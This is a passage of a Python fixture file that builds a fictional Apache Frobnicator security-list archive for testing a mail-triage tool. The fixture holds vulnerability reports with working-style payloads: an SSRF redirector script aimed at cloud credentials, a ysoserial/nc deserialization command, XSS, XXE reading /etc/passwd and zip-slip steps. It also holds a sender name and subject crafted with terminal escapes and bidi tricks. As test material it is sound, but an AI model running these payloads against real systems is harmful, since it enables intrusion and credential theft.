"""What the demo archive says: the people of the fictional Apache Frobnicator security
list and its threads, September to November 2026.

``build_demo.py`` turns this into ``security.mbox``. Each thread names what it
demonstrates; ``docs/demo.md`` lists them. People and hosts are fictional and use
reserved names (example.com/.net/.org, ``.example``, ``.invalid``).
"""

from __future__ import annotations

import textwrap
from dataclasses import field
from email.utils import formataddr

from mailtriage.core.lean_dataclass import frozen_dataclass

LIST_ADDRESS = "security@frobnicator.apache.org"
LIST_ID = "<security.frobnicator.apache.org>"
LIST_HOST = "frobnicator.apache.org"


# -- people ------------------------------------------------------------------------


@frozen_dataclass
class Person:
    name: str
    address: str
    utc_offset: int  # minutes east of UTC; fixed, DST is ignored
    client: str  # shapes the Message-ID and the User-Agent header
    signature: str = ""
    raw_name: str | None = None  # a pre-encoded display name, written verbatim

    @property
    def domain(self) -> str:
        return self.address.rsplit("@", 1)[1]

    def header(self) -> str:
        return formataddr((self.name, self.address)) if self.name else self.address


def _team(name: str, address: str, offset: int, client: str) -> Person:
    return Person(name, address, offset, client, f"{name}\nApache Frobnicator PMC, security team")


PRIYA = _team("Priya Raman", "praman@example.org", 60, "thunderbird")
MARTIN = _team("Martin Kowalczyk", "mkowalczyk@example.org", 120, "mutt")
DANA = _team("Dana Whitfield", "dwhitfield@example.org", -420, "gmail")
NGOZI = _team("Ngozi Okafor", "nokafor@example.org", 60, "outlook")
TEAM = (PRIYA, MARTIN, DANA, NGOZI)

JOSE = Person("José Müller", "jose.mueller@example.com", 120, "thunderbird", "José Müller\nExample Security Lab")
TANAKA = Person("田中太郎", "t.tanaka@example.net", 540, "outlook", "田中太郎 (Taro Tanaka)")
ZOE = Person("Zoë Lefèvre", "zoe.lefevre@example.com", 120, "apple")
OLAF = Person("Ølaf Søren", "olaf@example.net", 60, "mutt", "Ølaf")
FRANCOIS = Person("François Pérez", "fperez@example.com", 120, "evolution",
                  raw_name="=?iso-8859-1?q?Fran=E7ois_P=E9rez?=")
ANA = Person("Ana Costa", "ana.costa@redteam.example.com", 0, "gmail", "Ana Costa\nExample Red Team")
WEI = Person("Wei Zhang", "wei.zhang@example.net", 480, "gmail")
KIRAN = Person("Kiran Patel", "kiran.patel@example.net", 330, "gmail")
LUKAS = Person("Lukas Berger", "lukas.berger@example.com", 60, "thunderbird")
AMIRA = Person("Amira Haddad", "amira.haddad@example.com", 180, "webmail")
HUGO = Person("Hugo Lindqvist", "hugo@example.net", 60, "apple")
RAHUL = Person("Rahul Verma", "rahul.bugbounty@example.net", 330, "gmail")
SCANBOT = Person("ScanBot Reports", "reports@scanner.example.com", 0, "script")
BASTIAN = Person("Bastian Krüger", "bkrueger@distro.example.org", 60, "mutt", "Bastian\nExample Linux security team")
YUSUF = Person("Yusuf Demir", "yusuf.demir@example.com", 180, "thunderbird")
MEI = Person("Mei Lin", "mei.lin@example.net", 480, "gmail")
PEDRO = Person("Pedro Alves", "pedro.alves@example.com", -180, "gmail")
NIKOLAI = Person("Nikolai Ivanov", "nivanov@example.net", 180, "mailx")
CHEN = Person("Chen Jing", "chen.jing@example.com", 480, "gmail")
SARA = Person("Sara Nilsson", "sara.nilsson@example.net", 60, "thunderbird")
TOMAS = Person("Tomás Ortega", "tomas.ortega@example.com", -300, "gmail")
FATIMA = Person("Fatima Zahra Benali", "fz.benali@example.net", 60, "apple")
HOSTILE = Person("[link=https://evil.invalid]Security[/]\u202e\u200b",
                 "noreply@attacker.invalid", 0, "script")
OLIVER = Person("Oliver Grant", "oliver.grant@example.com", 0, "gmail")
DMITRI = Person("Dmitri Volkov", "d.volkov@example.net", 180, "thunderbird", "Dmitri")
GRACE = Person("Grace Kim", "grace.kim@example.com", -480, "apple")
LARS = Person("Lars Eriksen", "lars.eriksen@example.net", 60, "mutt")
AARAV = Person("Aarav Shah", "aarav.shah@example.com", 330, "gmail")
ELENA = Person("Elena Petrova", "elena.petrova@example.com", 120, "thunderbird", "Elena Petrova")
JONAS = Person("Jonas Weber", "jonas.weber@example.net", 60, "gmail")
SAMUEL = Person("Samuel Osei", "sam.osei@example.net", 0, "gmail", "Samuel")
SPAMMER = Person("Growth Team", "offers@growth-hacks.example", 0, "script")
PHISHER = Person("Accounts Payable", "billing@invoices-portal.example", 0, "script")
THROWAWAY = Person("", "frob-finder-4711@example.net", 0, "webmail")
DAEMON = Person("Mail Delivery System", "MAILER-DAEMON@mail.example.net", 0, "script")
IVAN = Person("Ivan Horvat", "ivan.horvat@example.com", 60, "thunderbird")
CHLOE = Person("Chloé Martin", "chloe.martin@example.org", 60, "apple")
INES = Person("Inês Carvalho", "ines.carvalho@example.com", 0, "thunderbird", "Inês Carvalho")


# -- the thread description -------------------------------------------------------

PREVIOUS = -1  # parent is the message before this one in the thread


@frozen_dataclass
class Mail:
    """One message of a thread. Recipients default to: a reply goes to the parent's
    author with the list in Cc; a root or a reply to oneself goes to the list."""

    author: Person
    when: str  # "YYYY-MM-DD HH:MM" in the author's local time
    body: str = ""
    parent: int | None = PREVIOUS  # index in the thread; None for a root
    subject: str | None = None  # default: "Re: " + the thread subject
    to: tuple[Person, ...] | None = None  # () means the list only
    cc: tuple[Person | str, ...] | None = None  # () means no Cc
    quote: int = 0  # quote this many lines of the parent
    kind: str = "plain"  # plain, html, latin1, base64, alternative, bounce, hostile
    extra: dict[str, str] = field(default_factory=dict)
    has_message_id: bool = True
    # A parent that never reached the list: written into In-Reply-To/References only.
    missing_parent: str | None = None
    attachment: tuple[str, str, str] | None = None  # filename, subtype, text


@frozen_dataclass
class Thread:
    slug: str
    subject: str
    demonstrates: str
    mails: list[Mail]


def B(text: str) -> str:
    """A body: dedented, without the leading newline, ending in one newline."""
    return textwrap.dedent(text).strip("\n") + "\n"


# -- the archive --------------------------------------------------------------------

POC_SSRF = B('''
    #!/usr/bin/env python3
    """PoC: Frobnicator fetcher follows redirects to link-local addresses.

    Run a redirector on an attacker host, then submit a job whose source is
    fetch://<attacker>/r. The job log contains the metadata service response.
    """
    from http.server import BaseHTTPRequestHandler, HTTPServer

    TARGET = "http://169.254.169.254/latest/meta-data/iam/security-credentials/"


    class Redirect(BaseHTTPRequestHandler):
        def do_GET(self):
            self.send_response(302)
            self.send_header("Location", TARGET)
            self.end_headers()


    if __name__ == "__main__":
        HTTPServer(("0.0.0.0", 8081), Redirect).serve_forever()
''')

HTML_REPORT = B('''
    <html><head><meta charset="utf-8"><style>td{padding:4px}</style></head><body>
    <p>Hello Apache Frobnicator security team,</p>
    <p>I found a <b>reflected cross-site scripting</b> issue in the web console search page.
    The <code>q</code> parameter is echoed into the results header without encoding.</p>
    <table border="1">
    <tr><td>Product</td><td>Apache Frobnicator web console</td></tr>
    <tr><td>Version</td><td>3.4.1 (also 3.4.0)</td></tr>
    <tr><td>Endpoint</td><td>/console/search?q=</td></tr>
    <tr><td>Impact</td><td>session theft of a logged-in operator</td></tr>
    </table>
    <p>Proof of concept:</p>
    <pre>https://frob.example.com/console/search?q=%3Csvg%20onload%3Dalert(document.domain)%3E</pre>
    <p>Screenshot: <img src="https://img.example.net/track/pixel.gif?u=amira" width="1" height="1" alt="">
    <a href="https://files.example.net/share/xss-search.png">xss-search.png</a></p>
    <p>Best regards,<br>Amira Haddad</p>
    </body></html>
''')

SPAM_TEXT = B('''
    Hi there!

    Your open-source project deserves MORE visibility. Our growth package delivers
    10,000 GitHub stars, 500 forks and a front-page post in 7 days, GUARANTEED.

    Reply YES to claim your 40% launch discount.

    Growth Team
    To stop receiving these offers visit https://growth-hacks.example/unsubscribe
''')

SPAM_HTML = B('''
    <html><body style="font-family:Arial">
    <h1 style="color:#e00">Your project deserves MORE visibility!</h1>
    <p>10,000 GitHub stars, 500 forks and a front-page post in <b>7 days</b>, GUARANTEED.</p>
    <p><a href="https://growth-hacks.example/claim?ref=frob">Claim your 40% discount</a></p>
    <img src="https://growth-hacks.example/open.gif?id=frob" width="1" height="1">
    </body></html>
''')

HOSTILE_SUBJECT = ("\x1b[31m\x1b[1mURGENT\x1b[0m [bold red]Security[/bold red] advisory "
                   "\u202egnp.exe\u202c \x1b]8;;https://attacker.invalid/\x07click here\x1b]8;;\x07\u200b")

THREADS: list[Thread] = [
    Thread("path-traversal", "Path traversal in archive import allows writing outside the workspace",
           "a full lifecycle: report, receipt, more info, CVE, credit, release; non-ASCII name; >From quoting",
           [
               Mail(JOSE, "2026-09-03 10:15", B('''
                   Hello Frobnicator security team,

                   I would like to report a path traversal ("zip slip") in the archive import of
                   Apache Frobnicator 3.4.1.

                   When a job imports a ZIP or TAR archive, entry names are joined to the job
                   workspace without normalisation. An entry named

                       ../../../../opt/frobnicator/conf/plugins.d/evil.xml

                   is written outside the workspace. Any user allowed to submit jobs can therefore
                   overwrite configuration files, and a plugin descriptor dropped into
                   plugins.d is loaded on the next restart.

                   From the attacker's point of view only the "submit job" permission is needed,
                   which is granted to every authenticated user in the default role mapping.

                   Steps to reproduce:
                   1. python3 -c "import zipfile; z=zipfile.ZipFile('e.zip','w'); z.writestr('../../../tmp/frob-pwned', 'x')"
                   2. frob job submit --input e.zip --pipeline import-archive
                   3. ls -l /tmp/frob-pwned

                   I have not shared this with anyone else. I would appreciate a CVE and credit.
                '''), parent=None, to=()),
               Mail(PRIYA, "2026-09-03 14:02", B('''
                   Hi José,

                   Thank you for your report. We have received it and the team is looking into it.
                   Please keep the details private until we have released a fix and published an
                   advisory; we will keep you informed of our progress.
               '''), quote=3),
               Mail(MARTIN, "2026-09-05 09:30", B('''
                   Hi José,

                   I can reproduce this on 3.4.1 and on 3.3.9. One question: did you also try the
                   "extract on upload" option of the REST API (POST /api/v2/uploads?extract=true)?
                   It goes through a different code path and I would like to know whether your
                   payload works there too.
               '''), quote=4),
               Mail(JOSE, "2026-09-05 18:44", B('''
                   Hi Martin,

                   Yes, the upload endpoint is affected as well, with the same archive. The TAR
                   reader is also affected when the entry is a symlink pointing outside the
                   workspace followed by a regular file with the same name.
               '''), quote=3),
               Mail(MARTIN, "2026-09-12 11:00", B('''
                   Hi José,

                   Thanks, the symlink variant is covered by the same fix. We have assigned
                   CVE-2026-41017 to this issue (severity: important). The fix will ship in
                   Apache Frobnicator 3.4.2, which we plan to release on 6 October.

                   How would you like to be credited in the advisory?
               ''')),
               Mail(JOSE, "2026-09-12 20:10", B('''
                   Please credit "José Müller (Example Security Lab)". Thank you!
               '''), quote=2),
               Mail(PRIYA, "2026-10-06 16:30", B('''
                   Hi José,

                   Apache Frobnicator 3.4.2 is released and the advisory for CVE-2026-41017 is
                   public: https://frobnicator.example.org/security.html#CVE-2026-41017

                   Thanks again for the report and for your patience.
               ''')),
           ]),
    Thread("deserialization-rce", "Remote code execution via unsafe deserialization on the cluster RPC port",
           "a base64-encoded body, a CJK name (RFC 2047 B-words), a reporter's follow-up",
           [
               Mail(TANAKA, "2026-09-08 09:12", B('''
                   Dear Apache Frobnicator security team,

                   I found an unauthenticated remote code execution in Apache Frobnicator 3.4.1.

                   The cluster RPC listener (port 7431/tcp, enabled when cluster.mode=peer) reads
                   Java objects with ObjectInputStream and no class filter. A gadget chain from
                   the bundled commons-collections 3.2.1 gives code execution as the service user.

                   Reproduction:
                     java -jar ysoserial.jar CommonsCollections6 'touch /tmp/frob-rce' > p.bin
                     nc frob-node.example.net 7431 < p.bin

                   The listener binds to 0.0.0.0 by default, so any host that can reach the port
                   can run commands. 3.3.x is affected too.

                   よろしくお願いいたします。
               '''), parent=None, kind="base64"),
               Mail(DANA, "2026-09-08 08:40", B('''
                   Dear Tanaka-san,

                   Thank you for the report, we have received it. We are investigating and will
                   come back to you soon. Please do not disclose it publicly in the meantime.
               '''), quote=4),
               Mail(DANA, "2026-09-15 10:05", B('''
                   Dear Tanaka-san,

                   We confirmed the issue and rate it critical. It is CVE-2026-41102. The fix adds
                   a class allow-list to the RPC listener and binds it to localhost unless
                   cluster.bind is set. It will be part of 3.4.2, planned for 6 October.
               ''')),
               Mail(TANAKA, "2026-09-16 11:20", B('''
                   Thank you for the quick fix.

                   I would like to present this finding at a conference in December. Is it
                   acceptable to publish details after the release of 3.4.2? I will not publish
                   before the advisory.
               '''), quote=3),
               Mail(PRIYA, "2026-09-17 09:00", B('''
                   Dear Tanaka-san,

                   Yes, once 3.4.2 and the advisory are out you are free to publish, and
                   presenting in December is fine with us. Please send us a link to the talk
                   so we can reference it.
               '''), quote=4),
               Mail(TANAKA, "2026-10-07 10:30", B('''
                   I confirmed that 3.4.2 fixes the issue: the payload is now rejected with
                   "class not allowed: org.apache.commons.collections.functors.InvokerTransformer".
                   Thank you very much.
               '''), kind="base64"),
           ]),
    Thread("admin-xss", "Stored XSS in the admin console via job names",
           "Apple Mail style, a diaeresis in the reporter's name, a credit question",
           [
               Mail(ZOE, "2026-09-10 21:47", B('''
                   Hi,

                   The admin console renders job names as HTML on the "Recent jobs" dashboard. A
                   user who can submit jobs can name a job

                       <img src=x onerror="fetch('/api/v2/admin/tokens',{method:'POST'})">

                   and the script runs in the session of every administrator who opens the
                   dashboard. Tested on 3.4.1 with the default configuration.

                   Zoë
               '''), parent=None),
               Mail(MARTIN, "2026-09-11 08:15", B('''
                   Hi Zoë,

                   Thank you for the report, we have received it. I could reproduce it this
                   morning; the dashboard template uses an unescaped expression for the name.
               '''), quote=3),
               Mail(MARTIN, "2026-09-18 13:40", B('''
                   Hi Zoë,

                   We have assigned CVE-2026-41233 (moderate). The fix is in 3.4.2. How would
                   you like to be credited?
               ''')),
               Mail(ZOE, "2026-09-18 19:02", B('''
                   Thanks Martin! "Zoë Lefèvre" is fine.
               ''')),
           ]),
    Thread("ssrf", "SSRF in the remote resource fetcher via redirects to internal addresses",
           "a message with a small PoC attachment (text/x-python); mutt-style Message-IDs",
           [
               Mail(OLAF, "2026-09-14 22:05", B('''
                   Hello,

                   The fetch:// source of Apache Frobnicator checks the host of the URL against
                   fetcher.deny (which denies 127.0.0.0/8, 169.254.0.0/16 and 10.0.0.0/8 by
                   default), but follows HTTP redirects without checking the new host.

                   So a job with source fetch://attacker.example.net/r that redirects to
                   http://169.254.169.254/latest/meta-data/ returns cloud credentials into the
                   job log. Version 3.4.1, default configuration.

                   Regards,
               '''), parent=None),
               Mail(PRIYA, "2026-09-15 09:10", B('''
                   Hi Ølaf,

                   Thank you for the report; we have received it. Could you send us the exact
                   job definition or a small proof of concept? We would like to check whether
                   the allow-list mode (fetcher.allow) is affected too.
               '''), quote=5),
               Mail(OLAF, "2026-09-15 20:33", B('''
                   Hi Priya,

                   PoC attached: run it on any host, then submit a job with
                   source fetch://<that host>:8081/r. With fetcher.allow=*.example.com the
                   redirect target is not checked either, so allow-list mode is affected.
               '''), attachment=("poc_ssrf.py", "x-python", POC_SSRF)),
               Mail(DANA, "2026-09-16 07:55", B('''
                   Hi Ølaf,

                   Confirmed with your PoC, thanks. This is CVE-2026-41290, rated important. The
                   fetcher will re-check every redirect target against the deny and allow lists
                   in 3.4.2.
               ''')),
           ]),
    Thread("archive-dos", "Déni de service : archive TAR imbriquée / DoS via deeply nested archive",
           "an iso-8859-1 quoted-printable body and an iso-8859-1 encoded-word name",
           [
               Mail(FRANCOIS, "2026-09-18 17:25", B('''
                   Bonjour,

                   (English below)

                   Une archive TAR contenant 40 niveaux d'archives imbriquées provoque une
                   récursion non bornée dans l'importeur : le processus consomme toute la
                   mémoire et le serveur tombe. Testé sur Frobnicator 3.4.1.

                   A TAR archive holding 40 levels of nested archives triggers unbounded
                   recursion in the importer: the process exhausts its heap and the node goes
                   down. An archive of 3 Ko is enough, see the script below.

                       for i in $(seq 1 40); do tar cf l$i.tar l$((i-1)).tar; done

                   Cordialement,
                   François Pérez
               '''), parent=None, kind="latin1"),
               Mail(MARTIN, "2026-09-21 10:12", B('''
                   Bonjour François,

                   Merci! I reproduced it. Since only users who can submit jobs can trigger it,
                   and the node restarts cleanly, we rate it low. We will add a nesting limit
                   (importer.max_depth, default 8) in 3.5.0 and treat it as a public hardening
                   fix, without an embargo.
               '''), quote=4),
               Mail(FRANCOIS, "2026-09-21 18:40", B('''
                   Très bien, merci beaucoup. Je vous laisse publier le correctif.
               '''), kind="latin1"),
           ]),
    Thread("auth-bypass", "Authentication bypass: empty bearer token accepted by the REST API with an LDAP realm",
           "a critical report, internal team discussion on the list, CVE assignment, credit",
           [
               Mail(ANA, "2026-09-22 14:30", B('''
                   Hi team,

                   When the LDAP realm is configured (auth.realm=ldap), the REST API accepts a
                   request with the header "Authorization: Bearer " (empty token) as the
                   anonymous bind user, which the default role mapping maps to "operator".

                   curl -H 'Authorization: Bearer ' https://frob.example.com/api/v2/jobs
                   returns 200 and the job list; DELETE works too.

                   Affected: 3.4.0, 3.4.1. 3.3.x is not affected (different auth filter).
               '''), parent=None),
               Mail(PRIYA, "2026-09-22 16:05", B('''
                   Hi Ana,

                   Thank you, received. This looks serious; we are on it today.
               '''), quote=3),
               Mail(DANA, "2026-09-22 10:20", B('''
                   Confirmed on 3.4.1 with an OpenLDAP container. The LDAP realm treats an empty
                   password as an anonymous bind and our filter never checks for a blank token.
                   I have a patch on the private security branch (frob-sec/auth-empty-token),
                   reviews welcome.
               '''), to=(), cc=()),
               Mail(MARTIN, "2026-09-23 09:00", B('''
                   Patch looks good, +1. I added a test for "Bearer" without a trailing space as
                   well. I requested CVE-2026-41355 for it (critical).
               '''), quote=2, to=(), cc=()),
               Mail(PRIYA, "2026-09-23 11:45", B('''
                   Hi Ana,

                   We confirmed the issue: it is CVE-2026-41355, rated critical, and the fix will
                   be in 3.4.2 on 6 October. How would you like to be credited?
               '''), parent=0, to=(ANA,)),
               Mail(ANA, "2026-09-23 13:02", B('''
                   Great, thanks! Please credit "Ana Costa, Example Red Team".
               ''')),
           ]),
    Thread("plugin-upload", "RCE: an administrator can upload a plugin that runs arbitrary code",
           "a report that is not a vulnerability (the security model)",
           [
               Mail(WEI, "2026-09-25 08:18", B('''
                   Hello,

                   In the admin console, Plugins > Upload accepts a JAR file which is loaded
                   into the server JVM. A malicious JAR can run arbitrary commands on the host.
                   I think this is a remote code execution vulnerability (CVSS 9.1).
               '''), parent=None),
               Mail(DANA, "2026-09-25 09:40", B('''
                   Hi Wei,

                   Thanks for writing to us. Uploading plugins is an administrator feature, and
                   administrators are fully trusted in Frobnicator's security model: they can
                   already change the configuration and run scripts by design. See
                   https://frobnicator.example.org/security-model.html

                   So this is not a vulnerability in Frobnicator, and we will not assign a CVE.
                   If you find a way for a non-administrator to reach the upload, please tell us!
               '''), quote=3),
               Mail(WEI, "2026-09-26 07:51", B('''
                   Understood, thank you for the explanation.
               ''')),
           ]),
    Thread("duplicate-zip", "Arbitrary file write via ../ entries in uploaded ZIP files",
           "a duplicate report of the path traversal",
           [
               Mail(KIRAN, "2026-09-27 12:30", B('''
                   Hi,

                   Uploading a ZIP with an entry "../../../../tmp/x" to /api/v2/uploads?extract=true
                   writes /tmp/x on the server (Frobnicator 3.4.1). Please let me know if you
                   need more details.

                   Thanks,
                   Kiran
               '''), parent=None),
               Mail(MARTIN, "2026-09-28 09:05", B('''
                   Hi Kiran,

                   Thank you for the report. This issue was already reported to us and a fix is
                   scheduled for the next release, so we are treating yours as a duplicate.
                   Please keep it private until the advisory is published.
               '''), quote=3),
               Mail(KIRAN, "2026-09-28 15:20", B('''
                   No problem. Could you let me know when the advisory is public?
               ''')),
               Mail(MARTIN, "2026-09-29 08:00", B('''
                   Sure, we will send you the link once it is out.
               ''')),
           ]),
    Thread("dependency-cve", "Frobnicator 3.4.1 bundles yamlette 2.1.0, affected by CVE-2026-38811",
           "a report about a dependency CVE that does not affect the project",
           [
               Mail(LUKAS, "2026-09-29 15:10", B('''
                   Hello,

                   Our dependency scanner flags lib/yamlette-2.1.0.jar in the Frobnicator 3.4.1
                   distribution: CVE-2026-38811 (arbitrary object construction when loading
                   untrusted YAML with the default constructor). Is Frobnicator affected, and
                   when will the library be upgraded?

                   Best,
                   Lukas
               '''), parent=None),
               Mail(DANA, "2026-09-30 09:30", B('''
                   Hi Lukas,

                   Frobnicator only loads YAML through yamlette's SafeConstructor, which is not
                   affected by CVE-2026-38811, so Frobnicator is not vulnerable. We will still
                   upgrade to yamlette 2.1.3 in 3.4.2 so that scanners stop flagging it.
               '''), quote=4),
               Mail(LUKAS, "2026-09-30 19:02", B('''
                   Thanks, that helps. We will document it as a false positive until 3.4.2.
               ''')),
           ]),
    Thread("distro-patches", "Request for pre-disclosure patches for 3.4.2 (distribution packaging)",
           "a downstream packager asking for embargoed patches",
           [
               Mail(BASTIAN, "2026-10-01 09:15", B('''
                   Hi,

                   We package Apache Frobnicator 3.3 and 3.4 for Example Linux. If 3.4.2 contains
                   security fixes, could we receive the patches a few days ahead of the release
                   under embargo, so that our updates ship on the same day?
               '''), parent=None),
               Mail(PRIYA, "2026-10-01 13:30", B('''
                   Hi Bastian,

                   Yes: we will send the patches for 3.4.x and 3.3.x to your security team
                   address on 2 October, under embargo until 6 October 14:00 UTC. Please
                   confirm that address is read only by your security team.
               '''), quote=3),
               Mail(BASTIAN, "2026-10-01 15:48", B('''
                   Confirmed, security@distro.example.org is restricted to our security team.
                   Thanks!
               ''')),
           ]),
    Thread("html-only", "Reflected XSS in /console/search",
           "an HTML-only report (text/html, remote image that must not be fetched)",
           [
               Mail(AMIRA, "2026-10-01 18:20", HTML_REPORT, parent=None, kind="html"),
               Mail(PRIYA, "2026-10-02 08:50", B('''
                   Hi Amira,

                   Thank you for your report, we have received it and will investigate.
               ''')),
               Mail(MARTIN, "2026-10-05 10:00", B('''
                   Hi Amira,

                   Confirmed on 3.4.1. The search header is rendered with the raw parameter.
                   We rate it moderate and have assigned CVE-2026-41371. The fix will be in
                   3.5.0; we will tell you the release date once it is set.
               '''), parent=0, to=(AMIRA,)),
           ]),
    Thread("release-announcement", "[DRAFT] Apache Frobnicator 3.4.2 security release announcement",
           "team-only discussion on the list",
           [
               Mail(PRIYA, "2026-10-02 11:00", B('''
                   Draft of the announcement for 6 October, please review:

                   ---
                   Apache Frobnicator 3.4.2 fixes the following vulnerabilities:

                   CVE-2026-41017 (important) Path traversal in archive import
                   CVE-2026-41102 (critical)  RCE via deserialization on the cluster RPC port
                   CVE-2026-41233 (moderate)  Stored XSS in the admin console
                   CVE-2026-41290 (moderate)  SSRF via redirects in the fetcher
                   CVE-2026-41355 (critical)  Authentication bypass with an empty bearer token

                   Users of 3.4.x should upgrade to 3.4.2. Users of 3.3.x should upgrade to 3.4.2
                   or apply the patches linked from the advisories.
                   ---
               '''), parent=None, to=(), cc=()),
               Mail(MARTIN, "2026-10-02 14:20", B('''
                   One correction: CVE-2026-41290 is important, not moderate. Otherwise +1.
               '''), quote=9, to=(), cc=()),
               Mail(DANA, "2026-10-02 08:05", B('''
                   +1 with Martin's correction.
               '''), to=(), cc=()),
           ]),
    Thread("xxe", "XXE in the pipeline definition importer",
           "a report with a CVE and a fix planned for the next minor release",
           [
               Mail(HUGO, "2026-10-03 11:40", B('''
                   Hi,

                   Importing a pipeline definition (frob pipeline import def.xml, or the
                   console's Import button) parses the XML with external entities enabled.

                       <!DOCTYPE p [<!ENTITY x SYSTEM "file:///etc/passwd">]>
                       <pipeline name="&x;"/>

                   shows /etc/passwd as the pipeline name. Frobnicator 3.4.1.

                   /Hugo
               '''), parent=None),
               Mail(DANA, "2026-10-03 08:15", B('''
                   Hi Hugo,

                   Thank you, we have received your report and will look into it.
               ''')),
               Mail(DANA, "2026-10-09 09:20", B('''
                   Hi Hugo,

                   Confirmed. This is CVE-2026-41418 (moderate); the fix (a hardened parser
                   factory) is planned for 3.5.0.
               ''')),
           ]),
    Thread("beg-bounty", "Critical vulnerability: Clickjacking on frobnicator.example.org - bounty?",
           "a low-effort 'beg bounty' report that is out of scope",
           [
               Mail(RAHUL, "2026-10-04 23:10", B('''
                   Dear Security Team,

                   I am a security researcher and found a CRITICAL vulnerability on your
                   website: the X-Frame-Options header is missing, so the site can be framed
                   (clickjacking). Also no SPF record on a subdomain.

                   Please let me know the bounty amount for this finding.
               '''), parent=None),
               Mail(DANA, "2026-10-05 10:30", B('''
                   Hello Rahul,

                   The project website is static and has no authenticated actions, so framing
                   it has no security impact; it is out of scope. The ASF does not run a bug
                   bounty programme. Thank you for your interest.
               '''), quote=3),
           ]),
    Thread("scanner", "[ScanBot] 47 findings for frobnicator.apache.org",
           "an automated scanner report, answered as not actionable",
           [
               Mail(SCANBOT, "2026-10-06 03:00", B('''
                   ScanBot automated report
                   ========================
                   Target: https://frobnicator.example.org
                   Findings: 47 (0 critical, 3 high, 12 medium, 32 low)

                   HIGH   Missing Content-Security-Policy header
                   HIGH   TLS 1.2 cipher suite with CBC mode
                   HIGH   Server version disclosed in "Server" header
                   MEDIUM Cookie without SameSite attribute (x 12)
                   LOW    ...

                   Full report: https://scanner.example.com/r/7f3a91
                   This report was generated automatically. Reply STOP to unsubscribe.
               '''), parent=None),
               Mail(PRIYA, "2026-10-06 09:45", B('''
                   Hello,

                   These are generic findings about a static website and not vulnerabilities
                   in Apache Frobnicator. Please do not send automated scan results to this
                   list; we accept reports that show a concrete impact.
               ''')),
           ]),
    Thread("log-injection", "Log injection via CR/LF in the User-Agent header",
           "a reply whose parent (a private reply) is missing from the archive",
           [
               Mail(YUSUF, "2026-10-08 13:25", B('''
                   Hello,

                   The access log writes the User-Agent header verbatim. A request with
                   "User-Agent: x\\r\\n127.0.0.1 - admin [08/Oct/2026] \\"POST /api/v2/admin\\" 200"
                   adds a forged line to logs/access.log, which misleads audits.

                   Frobnicator 3.4.1, built-in logger.
               '''), parent=None),
               Mail(YUSUF, "2026-10-09 10:02", B('''
                   Hi Martin,

                   > Could you confirm whether the access log is written by the built-in
                   > logger or by the reverse proxy?

                   It is the built-in logger (logging.access=builtin). Copying the list again
                   as you asked.
               '''), parent=0, to=(MARTIN,), missing_parent="<20261008150144.GA3391@example.org>"),
               Mail(MARTIN, "2026-10-09 12:30", B('''
                   Thanks Yusuf. We rate this low and will escape control characters in the
                   access log in 3.5.0 as a public fix.
               ''')),
           ]),
    Thread("eol-orphan", "Re: Frobnicator 3.3.x end of life and security fixes",
           "a thread whose root (a private@ message) is missing from the archive",
           [
               Mail(DANA, "2026-10-12 09:00", B('''
                   Moving this part of the private@ discussion here since it is about
                   security fixes: I propose that 3.3.x gets the CVE-2026-41017 and
                   CVE-2026-41102 patches as a last 3.3.10 release, and that we announce
                   end of life for 3.3.x on 31 December 2026.
               '''), parent=None, subject="Re: Frobnicator 3.3.x end of life and security fixes",
                    to=(), cc=(), missing_parent="<CAJx9fROB3.3eol.k2@mail.example.org>"),
               Mail(PRIYA, "2026-10-12 17:20", B('''
                   +1. I will add a line about the end of life to the next announcement.
               '''), quote=2, to=(), cc=()),
           ]),
    Thread("default-password", "Docker image ships with default admin/admin credentials",
           "a hardening request, not a vulnerability",
           [
               Mail(MEI, "2026-10-13 16:45", B('''
                   Hi,

                   The official container image apache/frobnicator:3.4.1 starts with the
                   administrator account admin/admin. Many deployments will never change it.
               '''), parent=None),
               Mail(DANA, "2026-10-13 09:10", B('''
                   Hi Mei,

                   The image is documented as a development image and prints a warning on
                   start, so we do not treat this as a vulnerability. We agree it is a poor
                   default though: from 3.5.0 the image will generate a random password on
                   first start and print it once.
               '''), quote=2),
               Mail(MEI, "2026-10-14 08:30", B('''
                   Sounds good, thanks.
               ''')),
           ]),
    Thread("session-fixation", "Session fixation after SSO login",
           "the team asks for more information, the reporter supplies it",
           [
               Mail(PEDRO, "2026-10-15 10:20", B('''
                   Hello,

                   The session ID is not renewed after login, so an attacker who plants a
                   session cookie in the victim's browser can take over the session once the
                   victim logs in. Frobnicator 3.4.1.
               '''), parent=None),
               Mail(MARTIN, "2026-10-16 11:00", B('''
                   Hi Pedro,

                   Thank you for the report. With the form login I see a new session ID after
                   login on 3.4.1. Which login method and configuration do you use?
               '''), quote=3),
               Mail(PEDRO, "2026-10-16 14:35", B('''
                   Hi Martin,

                   I use SAML SSO (auth.realm=saml). With SSO the callback handler keeps the
                   pre-login session. I can send a HAR file if useful.
               '''), quote=2),
               Mail(MARTIN, "2026-10-19 09:40", B('''
                   Confirmed with SAML, thanks. We rate it moderate; the fix (renewing the
                   session in the SSO callback) will be in 3.5.0.
               ''')),
           ]),
    Thread("temp-file", "Insecure temporary file in frob-cli export",
           "a reply sent without a Message-ID (it still references its parent)",
           [
               Mail(NIKOLAI, "2026-10-17 12:00", B('''
                   Hi,

                   frob-cli export writes /tmp/frob-export.json with mode 0644 and a fixed
                   name before moving it into place. Another local user can read the export,
                   which includes connection passwords, or pre-create the file as a symlink.
               '''), parent=None),
               Mail(DANA, "2026-10-17 09:30", B('''
                   Hi Nikolai,

                   Thanks. Valid; we rate it low because it needs a local account. We will use
                   a private temporary directory in 3.5.0 and fix it in public.
               '''), quote=3),
               Mail(NIKOLAI, "2026-10-17 21:15", B('''
                   Thanks. A patch suggestion, in case it helps:

                   -    tmp = Path("/tmp/frob-export.json")
                   +    tmp = Path(tempfile.mkdtemp(prefix="frob-export-")) / "export.json"
               '''), has_message_id=False),
           ]),
    Thread("prototype-pollution", "Prototype pollution in the web console settings merge",
           "a routine valid report",
           [
               Mail(CHEN, "2026-10-19 20:10", B('''
                   Hello,

                   The console's settings page merges the JSON from /api/v2/ui/prefs into its
                   defaults with a recursive merge that accepts "__proto__". Stored prefs of
                   {"__proto__": {"isAdmin": true}} make the console show admin menus to any
                   user (the API still checks permissions, so impact is limited).
               '''), parent=None),
               Mail(PRIYA, "2026-10-20 08:30", B('''
                   Hi Chen,

                   Thank you for your report, we have received it and will look into it.
               ''')),
               Mail(MARTIN, "2026-10-22 10:15", B('''
                   Hi Chen,

                   Confirmed. Since the server enforces permissions we rate it low; the merge
                   will skip __proto__ and constructor keys in 3.5.0.
               '''), parent=0, to=(CHEN,)),
           ]),
